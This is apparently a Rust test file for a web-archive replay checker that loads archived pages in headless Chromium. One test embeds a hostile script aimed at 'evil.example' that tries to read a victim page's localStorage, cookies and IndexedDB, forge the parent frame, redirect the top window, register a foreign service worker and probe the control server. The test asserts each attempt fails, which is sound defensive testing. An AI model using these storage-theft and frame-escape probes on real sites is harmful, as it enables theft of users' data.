//! `fonds replay check`: pages of an archive in Chromium, which reaches nothing else.

use crate::archive::{file, page, record_of, response};
use crate::need::program;
use crate::program::{arg, command, fonds};
use crate::replay::{RunningReplay, get};
use std::io::BufRead;
use std::path::Path;
use std::process::Stdio;
use std::time::{Duration, Instant};

const DATE: &str = "2024-03-01T09:00:00Z";

/// A style sheet, a script, a picture of one dot: what pages here need.
fn parts(host: &str) -> [Vec<u8>; 3] {
    let of = |path: &str, mime: &str, body: &str| {
        let head = format!("200 OK\r\nContent-Type: {mime}\r\nStrict-Transport-Security: max-age=9");
        response(&format!("{host}{path}"), DATE, &head, body)
    };
    [
        of("/s.css", "text/css", "p { color: green } @import '/gone.css';"),
        of(
            "/s.js",
            "text/javascript",
            "document.body.append('added by a script'); fetch('/data.json'); nothing.here()",
        ),
        of("/i.svg", "image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'/>"),
    ]
}

const PAGE: &str = "<!doctype html><title>T</title><link rel=stylesheet href=/s.css><link rel=stylesheet href=/lost.css>\
    <p>one two three four five six seven eight nine ten<img src=/i.svg><img src=//c.example/lost.png>\
    <script src=/s.js></script>";

fn workspace(folder: &Path, records: &[Vec<u8>]) -> String {
    let archive = file(folder, "a.warc.gz", records);
    let workspace = folder.join("w");
    fonds(&["new", arg(&workspace)]).with_status(0);
    fonds(&["import", arg(&workspace), arg(&archive)]).with_status(0);
    arg(&workspace).to_owned()
}

#[test]
fn pages_are_opened_as_they_were_and_each_hole_is_named() {
    if program("chromium").is_none() {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let mut records = Vec::new();
    // One of them is a site of another scheme, whose certificate nobody has.
    for host in ["http://a.example", "https://b.example"] {
        records.push(page(&format!("{host}/"), DATE, PAGE));
        records.extend(parts(host));
    }
    let url = "https://b.example/";
    records.push(record_of(
        &format!("urn:text:{url}"),
        DATE,
        "text/plain",
        b"one two three four five added by a script",
    ));
    let info = format!(
        r#"{{"urls":{{"{url}":{{"status":200}},"{url}lost.css":{{"status":200}},"{url}x":{{"status":404}}}}}}"#
    );
    records.push(record_of(&format!("urn:pageinfo:{url}"), DATE, "application/json", info.as_bytes()));
    let workspace = workspace(folder.path(), &records);
    let pages = fonds(&["replay", "check", &workspace, "--json"]).with_status(0).json_lines();
    assert_eq!(pages.len(), 2, "{pages:#?}");
    for page in &pages {
        let findings = &page["findings"];
        let base = page["url"].as_str().unwrap();
        let mut missing: Vec<&str> =
            findings["missing"].as_array().unwrap().iter().map(|request| request["url"].as_str().unwrap()).collect();
        missing.retain(|url| !url.ends_with("/favicon.ico"));
        missing.sort_unstable();
        let scheme = base.split_once(':').unwrap().0;
        let mut expected: Vec<String> = ["data.json", "lost.css"].iter().map(|name| format!("{base}{name}")).collect();
        expected.push(format!("{scheme}://c.example/lost.png"));
        expected.sort_unstable();
        assert_eq!(missing, expected, "an import after a rule is none");
        assert!(findings["missing"][0]["why"].as_str().unwrap().contains("never seen"), "{findings}");
        assert_eq!(page["words"], 1.0, "{page}");
        assert_eq!(findings["script_errors"].as_array().unwrap().len(), 1, "{findings}");
        let picture = std::fs::read(Path::new(&workspace).join(page["picture"].as_str().unwrap())).unwrap();
        assert!(picture.starts_with(b"\x89PNG"));
    }
    // Beside what its crawler kept: 9 of 14 words, one of two requests.
    let crawler = &pages.iter().find(|page| page["url"] == url).unwrap()["findings"]["crawler"];
    assert!((crawler["text"].as_f64().unwrap() - 9.0 / 14.0).abs() < 1e-9, "{crawler}");
    assert_eq!(crawler["requests"], serde_json::json!([2, 1]));
    assert!(fonds(&["replay", "check", &workspace, "--json"]).with_status(0).out.is_empty(), "they are known");
    assert_eq!(fonds(&["replay", "check", &workspace, "--json", "--again", "--most", "1"]).json_lines().len(), 1);
}

#[test]
fn pages_are_compared_with_what_browsertrix_kept_of_them_in_files_of_their_own() {
    if program("chromium").is_none() {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let url = |name: &str| format!("https://b.example/{name}");
    let text = "one two three four five six seven";
    let captured = |name: &str| page(&url(name), DATE, &format!("<body style='background: #fff'><p>{text}"));
    let workspace = workspace(folder.path(), &["same", "other", "unknown"].map(captured));
    let first = fonds(&["replay", "check", &workspace, "--json"]).with_status(0).json_lines();
    assert!(first.len() == 3 && first.iter().all(|page| page["findings"]["crawler"].is_null()), "{first:#?}");
    let shown = |name: &str| {
        let page = first.iter().find(|page| page["url"] == url(name)).unwrap();
        std::fs::read(Path::new(&workspace).join(page["picture"].as_str().unwrap())).unwrap()
    };
    // The forms of Browsertrix: pictures and texts in files of their own, some seconds after the page.
    let later = "2024-03-01T09:00:07Z";
    let views = [("same", shown("same")), ("other", black_picture())];
    let views = views.map(|(name, view)| record_of(&format!("urn:view:{}", url(name)), later, "image/png", &view));
    let texts = [("same", text), ("other", "one two three")]
        .map(|(name, text)| record_of(&format!("urn:text:{}", url(name)), later, "text/plain", text.as_bytes()));
    let infos = ["same", "other"].map(|name| {
        let info = serde_json::json!({
            "pageid": "8d4b", "url": url(name), "ts": later, "counts": {"jsErrors": 0},
            "urls": {
                url(name): {"status": 200, "mime": "text/html", "type": "document"},
                url("lost.js"): {"status": 200, "mime": "text/javascript", "type": "script"},
                url("gone.css"): {"status": 0, "type": "stylesheet", "error": "net::ERR_FAILED"},
            },
        });
        record_of(&format!("urn:pageinfo:{}", url(name)), later, "application/json", info.to_string().as_bytes())
    });
    let archive = folder.path().join("archive");
    std::fs::create_dir(&archive).unwrap();
    file(&archive, "screenshots-20240301090007.warc.gz", &views);
    file(&archive, "text-20240301090007.warc.gz", &texts);
    file(&archive, "rec-20240301090007.warc.gz", &infos);
    fonds(&["import", &workspace, arg(&archive)]).with_status(0);
    let pages = fonds(&["replay", "check", &workspace, "--json", "--again"]).with_status(0).json_lines();
    let crawler =
        |name: &str| pages.iter().find(|page| page["url"] == url(name)).unwrap()["findings"]["crawler"].clone();
    let number = |of: &serde_json::Value, name: &str| of[name].as_f64().unwrap();
    let (same, other) = (crawler("same"), crawler("other"));
    assert!(number(&same, "picture") > 0.99 && number(&other, "picture") < 0.1, "{same} {other}");
    assert!(number(&same, "text") > 0.99 && (number(&other, "text") - 3.0 / 7.0).abs() < 1e-9, "{same} {other}");
    // Of what was answered at the crawl, the page alone is requested again.
    assert_eq!((&same["requests"], &other["requests"]), (&serde_json::json!([2, 1]), &serde_json::json!([2, 1])));
    assert!(crawler("unknown").is_null());
}

/// A window that is black all over.
fn black_picture() -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut encoder = png::Encoder::new(&mut bytes, 1280, 800);
    encoder.set_color(png::ColorType::Grayscale);
    encoder.write_header().unwrap().write_image_data(&vec![0; 1280 * 800]).unwrap();
    bytes
}

#[cfg(unix)]
#[test]
fn pages_are_printed_as_they_are_opened_and_stopping_keeps_them() {
    if program("chromium").is_none() {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let records: Vec<Vec<u8>> = (0..8).map(|at| page(&format!("http://a.example/{at}"), DATE, "<p>one two")).collect();
    let workspace = workspace(folder.path(), &records);
    let mut child = command(&["replay", "check", &workspace, "--json", "--browsers", "1"]).spawn().unwrap();
    let mut lines = std::io::BufReader::new(child.stdout.take().unwrap()).lines();
    let first = lines.next().unwrap().unwrap();
    assert!(child.try_wait().unwrap().is_none(), "the first page comes before the last one is opened");
    let stop = std::process::Command::new("kill").args(["-INT", &child.id().to_string()]).status().unwrap();
    assert!(stop.success());
    let printed: Vec<String> = std::iter::once(first).chain(lines.map(Result::unwrap)).collect();
    assert_eq!(child.wait().unwrap().code(), Some(130));
    assert!(printed.len() < 8, "{printed:#?}");
    // What was opened is kept; the same command goes on.
    let left = fonds(&["replay", "check", &workspace, "--json"]).with_status(0).json_lines();
    assert_eq!(printed.len() + left.len(), 8, "{printed:#?} {left:#?}");
}

/// What a page that means harm tries; each result is a request that is listed as missing.
const HOSTILE: &str = r#"<!doctype html><title>Hostile</title><body><script>
const tell = (name, value) => fetch(`/report?${name}=${encodeURIComponent(value)}`).catch(() => {});
const attempt = async (name, work) => {
  const late = new Promise((done) => setTimeout(() => done('no answer'), 1500));
  try { await tell(name, await Promise.race([work(), late])); } catch { await tell(name, 'refused'); }
};
(async () => {
  const control = location.ancestorOrigins[0];
  await attempt('storage', () => String(localStorage.getItem('secret')));
  await attempt('cookie', () => document.cookie.includes('secret'));
  await attempt('database', async () => (await indexedDB.databases()).length);
  await attempt('bar', () => { parent.document.getElementById('date').textContent = 'forged'; return 'written'; });
  await attempt('top', () => { top.location = 'http://evil.example/away'; return 'left'; });
  await attempt('control', async () => (await fetch(`${control}/cdx?url=victim.example`)).status);
  await attempt('worker', async () => { await navigator.serviceWorker.register('/sw.js'); return 'registered'; });
  await attempt('container', async () => {
    await ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, `${location.pathname.split('/w/')[0]}/w/20240301090000js_/http://evil.example/sw.js`);
    return 'registered';
  });
  await attempt('rtc', () => typeof RTCPeerConnection);
  await attempt('frame', () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return `${typeof frames[0].RTCPeerConnection} ${frames[0].localStorage.getItem('secret')}`;
  });
  await attempt('window', () => String(window.open('http://evil.example/away')));
  await tell('end', 'reached');
})();
</script>"#;

#[test]
fn archived_pages_reach_neither_each_other_nor_this_program() {
    let Some(browser) = program("chromium") else { return };
    for options in [&[][..], &["--token"]] {
        let missing = missing_of_hostile_pages(&browser, options);
        let reported = |name: &str| {
            let (_, rest) =
                missing.split_once(&format!("/report?{name}=")).unwrap_or_else(|| panic!("no {name}: {missing}"));
            rest.split('"').next().unwrap().to_owned()
        };
        assert_eq!(reported("victim"), "of%20the%20victim", "a page has a storage of its own");
        for (name, expected) in [
            ("storage", "null"),
            ("cookie", "false"),
            ("database", "0"),
            ("bar", "refused"),
            ("top", "refused"),
            ("control", "404"),
            ("worker", "no%20answer"),
            ("container", "refused"),
            ("rtc", "undefined"),
            ("frame", "undefined%20null"),
            ("window", "null"),
        ] {
            assert_eq!(reported(name), expected, "{name}: {missing}");
        }
    }
}

/// What a replay lists as missing after a browser opened a page with secrets and one that is after them.
fn missing_of_hostile_pages(browser: &Path, options: &[&str]) -> String {
    let folder = tempfile::tempdir().unwrap();
    let victim = "<!doctype html><script>localStorage.setItem('secret', 'of the victim'); document.cookie = 'secret=1';\
        indexedDB.open('secret'); fetch('/report?victim=' + localStorage.getItem('secret'))</script>";
    let worker =
        response("http://evil.example/sw.js", DATE, "200 OK\r\nContent-Type: text/javascript", "onfetch = () => {}");
    let records = [page("http://victim.example/", DATE, victim), page("http://evil.example/", DATE, HOSTILE), worker];
    let replay = RunningReplay::start_with(&file(folder.path(), "a.warc.gz", &records), options);
    let profile = folder.path().join("profile");
    for site in ["victim", "evil"] {
        let mut call = std::process::Command::new(browser);
        call.args(["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run"]);
        call.arg(format!("--user-data-dir={}", profile.display()));
        call.arg(format!("http://{}/r/20240301090000/http://{site}.example/", replay.control));
        call.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
        let mut child = call.spawn().unwrap();
        let end = if site == "evil" { "end=reached" } else { "victim=" };
        let last = Instant::now() + Duration::from_secs(60);
        while !get(&replay.control, "/missing").contains(end) && Instant::now() < last {
            std::thread::sleep(Duration::from_millis(200));
        }
        child.kill().unwrap();
        child.wait().unwrap();
    }
    get(&replay.control, "/missing")
}

#[test]
fn nothing_is_opened_without_a_browser() {
    let folder = tempfile::tempdir().unwrap();
    let workspace = workspace(folder.path(), &[page("http://a.example/", DATE, PAGE)]);
    let absent = folder.path().join("chromium");
    fonds(&["replay", "check", &workspace, "--browser", arg(&absent)]).with_status(2).with_message("--browser");
    // A program that is no browser is named.
    let call = fonds(&["replay", "check", &workspace, "--browser", "/bin/true"]).with_status(2);
    assert!(call.err.contains("/bin/true"), "{}", call.err);
}
